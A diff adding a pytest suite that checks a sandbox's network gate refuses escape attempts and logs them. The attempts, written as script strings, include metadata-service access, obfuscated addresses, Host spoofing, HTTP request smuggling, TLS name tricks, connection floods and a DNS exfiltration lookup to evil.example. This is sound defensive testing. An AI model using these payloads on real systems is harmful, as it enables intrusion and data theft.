@@ -1,0 +1,169 @@
+"""Ways past the line, tried from inside a real box. Each is refused, with its entry in the journal, and each has a
+control: the same act where a rule allows it, or the same bytes from outside, gets through."""
+import collections
+import json
+
+import pytest
+
+counts = collections.Counter()
+
+PRELUDE = """
+import socket, ssl, struct, sys, time
+def dial(host, port, data=b"", wait=5):
+    s = socket.create_connection((host, port), 5); s.settimeout(wait)
+    if data: s.sendall(data)
+    out = b""
+    try:
+        while part := s.recv(65536): out += part
+    except ConnectionResetError: return "reset"
+    except socket.timeout: return "timeout " + out.decode("latin-1")
+    return out.decode("latin-1")
+def say(text):
+    print(str(text)[:300].replace("\\r\\n", " "))
+def get(host, port, path="/", name=None, more="", version="1.1", method="GET", body=""):
+    name = host if name is None else name
+    return dial(host, port, f"{method} {path} HTTP/{version}\\r\\nHost: {name}\\r\\nConnection: close\\r\\n{more}\\r\\n{body}".encode())
+"""
+
+# name, script, what the machine sees (any of), what the journal says, what the control's rule is and must give
+HTTP, TLS, TCP = "{http}", "{https}", "{tcp}"
+ROWS = [
+    ("a host that no rule names", "say(get('other.test', {http}))", ["403"], "no rule allows it", "other.test:{http}", "200"),
+    ("an address dialled directly", "say(get('127.0.0.9', {http}) if 0 else get('203.0.113.7', {http}))", ["403"], "no rule allows it", None, None),
+    ("the metadata service", "say(get('169.254.169.254', 80))", ["403"], "no rule allows it", None, None),
+    ("a private address", "say(get('10.0.0.1', {http}))", ["403"], "no rule allows it", None, None),
+    ("bytes to an address", "say(dial('8.8.8.8', 53, b'\\x00\\x1d' + b'x' * 29))", ["reset"], "no rule allows it", None, None),
+    ("another port of an allowed host", "say(get('ok.test', {tcp}))", ["403"], "no rule allows it", "ok.test:{tcp}", "hello"),
+    ("a decimal address", "say(get('3405803783', {http}, name='3405803783'))", ["403"], "its Host makes no sense", None, None),
+    ("an octal address", "say(get('0313.0.0161.7', {http}))", ["403"], "its Host makes no sense", None, None),
+    ("a mapped address", "s = socket.socket(socket.AF_INET6); s.settimeout(5); s.connect(('::ffff:203.0.113.7', {http})); s.sendall(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); say(s.recv(99))", ["403"], "", None, None),
+    ("a name that leads to a private address", "say(get('private.test', 8080))", ["403"], "leads to a private address", None, None),
+    ("Host of another", "say(get('ok.test', {http}, name='other.test'))", ["403"], "its Host is another", None, None),
+    ("Host with another port", "say(get('ok.test', {http}, name='ok.test:1'))", ["403"], "another port", None, None),
+    ("no Host", "say(dial('ok.test', {http}, b'GET / HTTP/1.1\\r\\nConnection: close\\r\\n\\r\\n'))", ["400", "403"], "", None, None),
+    ("two Hosts", "say(get('ok.test', {http}, more='Host: other.test\\r\\n'))", ["400", "403"], "", None, None),
+    ("absolute form to another host", "say(get('ok.test', {http}, path='http://other.test/'))", ["403"], "its Host is another", None, None),
+    ("CONNECT outside of the proxy", "say(dial('ok.test', {http}, b'CONNECT other.test:80 HTTP/1.1\\r\\nHost: other.test:80\\r\\n\\r\\n'))", ["403"], "CONNECT is for the proxy", None, None),
+    ("a second request for another host", "say(dial('ok.test', {http}, b'GET / HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: other.test\\r\\nConnection: close\\r\\n\\r\\n').split('HTTP/1.1 ')[-1])", ["403"], "its Host is another", None, None),
+    ("TLS named for another", "c = ssl._create_unverified_context(); s = socket.create_connection(('ok.test', {https}))\ntry: c.wrap_socket(s, server_hostname='other.test'); say('reached')\nexcept OSError as e: say('reset')", ["reset"], "names another server", None, None),
+    ("TLS without a name", "c = ssl._create_unverified_context(); c.check_hostname = False; s = socket.create_connection(('ok.test', {https}))\ntry: c.wrap_socket(s); say('reached')\nexcept OSError as e: say('reset')", ["reset"], "names no server", None, None),
+    ("TLS that makes no sense", "say(dial('ok.test', {https}, b'\\x16\\x03\\x01\\x00\\x05\\x02aaaa'))", ["reset"], "makes no sense", None, None),
+    ("other bytes where TLS is allowed", "say(dial('ok.test', {https}, b'SSH-2.0-x\\r\\n'))", ["reset"], "no rule allows it", None, None),
+    ("smuggling by two lengths", "say(get('ok.test', {http}, method='POST', more='Content-Length: 4\\r\\nContent-Length: 44\\r\\n', body='aaaa'))", ["400"], "", None, None),
+    ("smuggling by length and chunks", "say(get('ok.test', {http}, method='POST', more='Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n', body='0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n'))", ["400"], "", None, None),
+    ("smuggling by another coding", "say(get('ok.test', {http}, method='POST', more='Transfer-Encoding: xchunked\\r\\n', body='0\\r\\n\\r\\n'))", ["400", "501"], "", None, None),
+    ("a bare LF", "say(dial('ok.test', {http}, b'GET / HTTP/1.1\\nHost: ok.test\\n\\n'))", ["400", "reset"], "", None, None),
+    ("a header flood", "say(get('ok.test', {http}, more='X: y\\r\\n' * 5000))", ["431", "reset"], "", None, None),
+    ("h2c", "say(get('ok.test', {http}, more='Upgrade: h2c\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nHTTP2-Settings: AAMAAABk\\r\\n').split('\"headers\"')[1])", ["Host"], None, None, None),
+    ("the HTTP/2 preface", "say(dial('ok.test', {http}, b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'))", ["400", "505", "reset"], "", None, None),
+    ("the gate's own port", "say(dial('127.0.0.1', 3129, b'GET / HTTP/1.1\\r\\n\\r\\n'))", ["reset"], "that is the gate itself", None, None),
+    ("another host through the proxy", "say(dial('127.0.0.1', 3128, b'GET http://other.test:{http}/ HTTP/1.1\\r\\nHost: other.test:{http}\\r\\nConnection: close\\r\\n\\r\\n'))", ["403"], "no rule allows it", None, None),
+    ("another host by CONNECT", "say(dial('127.0.0.1', 3128, b'CONNECT other.test:{http} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: other.test:{http}\\r\\n\\r\\n').split('HTTP/1.1 ')[-1])", ["403"], "no rule allows it", None, None),
+    ("a name query to a server outside", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry: s.sendto(b'x' * 30, ('8.8.8.8', 53)); say('sent')\nexcept OSError as e: say(e.strerror)", ["Operation not permitted"], None, None, None),
+    ("an IPv6 address", "s = socket.socket(socket.AF_INET6)\ntry: s.connect(('2001:db8::1', 443)); say('reached')\nexcept OSError as e: say(e.strerror)", ["Network is unreachable"], None, None, None),
+    ("data hidden in a name", "say(socket.gethostbyname('c2VjcmV0.evil.example'))", ["198.18."], None, None, None),
+]
+
+
+@pytest.fixture(scope="module")
+def box(gated_session, servers):
+    m = gated_session.machine()
+    for target in (f"http://ok.test:{servers.http}", f"https://ok.test:{servers.https}"):
+        gated_session.allow(m, target)
+    gated_session.post(f"/v1/machines/{m}/net/rules", {"target": "private.test:8080"})
+    yield m
+    gated_session.clear()
+
+
+@pytest.mark.parametrize("row", ROWS, ids=lambda r: r[0].replace(" ", "-"))
+def test_refused(gated_session, servers, box, row):
+    name, script, seen, journal, rule, control = row
+    ports = {"http": servers.http, "https": servers.https, "tcp": servers.tcp}
+
+    def fill(text):
+        for key, port in ports.items():
+            text = text.replace("{" + key + "}", str(port))
+        return text
+    before = len(gated_session.notes(box, verb="net.deny", count=0))
+    servers.forget()
+    done = gated_session.python(box, PRELUDE + fill(script), timeout="30s")
+    assert any(s in done["stdout"] for s in seen), done
+    assert not any("smuggled" in r["path"] or ("other.test" in dict(r["headers"]).get("Host", "")) for r in servers.web.seen)
+    counts["attacks"] += 1
+    if journal is not None:
+        notes = gated_session.notes(box, verb="net.deny", count=before + 1)
+        assert journal in notes[-1]["reason"], notes[-1]
+        counts["with their entry in the journal"] += 1
+    if rule:
+        m = gated_session.machine(net=[{"target": fill(rule), "local": True}])
+        done = gated_session.python(m, PRELUDE + fill(script))
+        assert control in done["stdout"] or "502" in done["stdout"], done
+        counts["with a control that got through"] += 1
+
+
+def test_control_every_allowed_thing_gets_through(gated_session, servers, box):
+    script = PRELUDE + f"say(get('ok.test', {servers.http}))"
+    assert "200 OK" in gated_session.python(box, script)["stdout"]
+
+
+def test_a_redirect_does_not_lead_out(gated_session, servers, box):
+    done = gated_session.exec(box, ["curl", "-sSL", "--max-time", "20", f"http://ok.test:{servers.http}/redirect"])
+    assert json.loads(done["stdout"])["error"]["message"].endswith("'169.254.169.254:80'")
+
+
+def test_slow_requests_end(gated_session, servers, box):
+    script = PRELUDE + f"""
+s = socket.create_connection(("ok.test", {servers.http})); s.settimeout(30); began = time.monotonic()
+try:
+    for c in "GET / HTTP/1.1\\r\\nHost: ok.test\\r\\n" + "X: y\\r\\n" * 100:
+        s.sendall(c.encode()); time.sleep(0.1)
+    say("taken")
+except OSError as e: say("ended")
+print(time.monotonic() - began < 20)
+"""
+    assert gated_session.python(box, script, timeout="60s")["stdout"].split() == ["ended", "True"]
+
+
+def test_ten_thousand_connections_hurt_nobody_else(gated_session, servers, box):
+    """Beyond its share each is reset at once; the daemon serves on meanwhile, and the machine after them."""
+    other = gated_session.machine(net=[{"target": f"ok.test:{servers.http}", "local": True}])
+    script = PRELUDE + """
+import resource
+resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
+kept, reset = [], 0
+for i in range(10000):
+    s = socket.socket()
+    try: s.connect(("198.51.100.7", 9))
+    except OSError: reset += 1; s.close(); continue
+    kept.append(s)
+    if len(kept) > 2000:
+        kept.pop(0).close()
+print("done")
+"""
+    x = gated_session.background(box, ["python3", "-c", script], timeout="100s")
+    done = gated_session.exec(other, ["curl", "-sS", "--max-time", "30", f"http://ok.test:{servers.http}/meanwhile"])
+    assert '"/meanwhile"' in done["stdout"]
+    assert gated_session.wait(box, x, 110)["status"] == 0
+    gated_session.until(lambda: "200 OK" in gated_session.python(
+        box, PRELUDE + f"say(get('ok.test', {servers.http}))")["stdout"], 30)
+
+
+def test_a_box_changes_no_route_and_no_rule(gated_session, box):
+    script = PRELUDE + """
+def attempt(f):
+    try: f(); say("done")
+    except OSError as e: say(type(e).__name__)
+attempt(lambda: socket.socket(16, 3, 12))
+attempt(lambda: socket.socket().setsockopt(0, 19, 1))
+n = socket.socket(16, 3, 0); n.bind((0, 0))
+n.send(struct.pack("IHHII", 16 + 16, 17, 5, 1, 0) + struct.pack("BBBBI", 0, 0, 0, 1, 1) + b"\\0" * 8)
+reply = n.recv(4096); say(struct.unpack("i", reply[16:20])[0])
+"""
+    out = gated_session.python(box, script, user="root")["stdout"].split()
+    assert out[0] != "done" and out[1] == "PermissionError" and int(out[2]) < 0
+
+
+def test_zz_print_the_count(capsys):
+    with capsys.disabled():
+        print("\n#", ", ".join(f"{n} {what}" for what, n in counts.items()))
+    assert counts["attacks"] >= 30
